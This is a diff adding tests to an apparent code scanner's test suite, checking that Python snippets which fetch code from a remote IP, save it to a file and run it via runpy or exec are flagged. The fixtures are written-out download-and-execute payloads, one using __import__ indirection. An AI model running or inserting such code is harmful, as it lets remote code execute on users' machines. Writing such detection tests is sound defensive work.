@@ -660,3 +660,28 @@ def test_a_pip_config_with_only_timeouts_is_not() -> None:
         "with open(Path.home() / '.config' / 'pip' / 'pip.conf', 'w') as fh:\n    cp.write(fh)\n"
     )
     assert "SKC-FL-050" not in _rules(code)
+
+
+DOWNLOADED_THEN_RUN_FROM_A_FILE = [
+    # a temporary file, written with fetched code, run by runpy through an __import__'d name
+    "import tempfile\nloader = __import__('urllib.request', fromlist=['urlopen'])\n"
+    "body = loader.urlopen('http://198.51.100.9/fix.py').read()\n"
+    "with tempfile.NamedTemporaryFile('wb', suffix='.py', delete=False) as fh:\n    fh.write(body)\n"
+    "runner = __import__('runpy')\nrunner.run_path(fh.name)\n",
+    # a named path written and read back into exec
+    "import requests\np = '/tmp/.cache_fix.py'\nopen(p, 'w').write(requests.get('https://203.0.113.4/p').text)\n"
+    "exec(open(p).read())\n",
+]
+
+
+@pytest.mark.parametrize("code", DOWNLOADED_THEN_RUN_FROM_A_FILE)
+def test_fetched_code_saved_to_a_file_and_run_is_found(code: str) -> None:
+    assert "SKC-FL-001" in _rules(code)
+
+
+def test_a_file_the_script_wrote_itself_and_runs_is_not_fetched_code() -> None:
+    code = (
+        "import runpy, tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as fh:\n"
+        "    fh.write('print(1)')\nrunpy.run_path(fh.name)\n"
+    )
+    assert not _rules(code) & {"SKC-FL-001", "SKC-FL-002"}
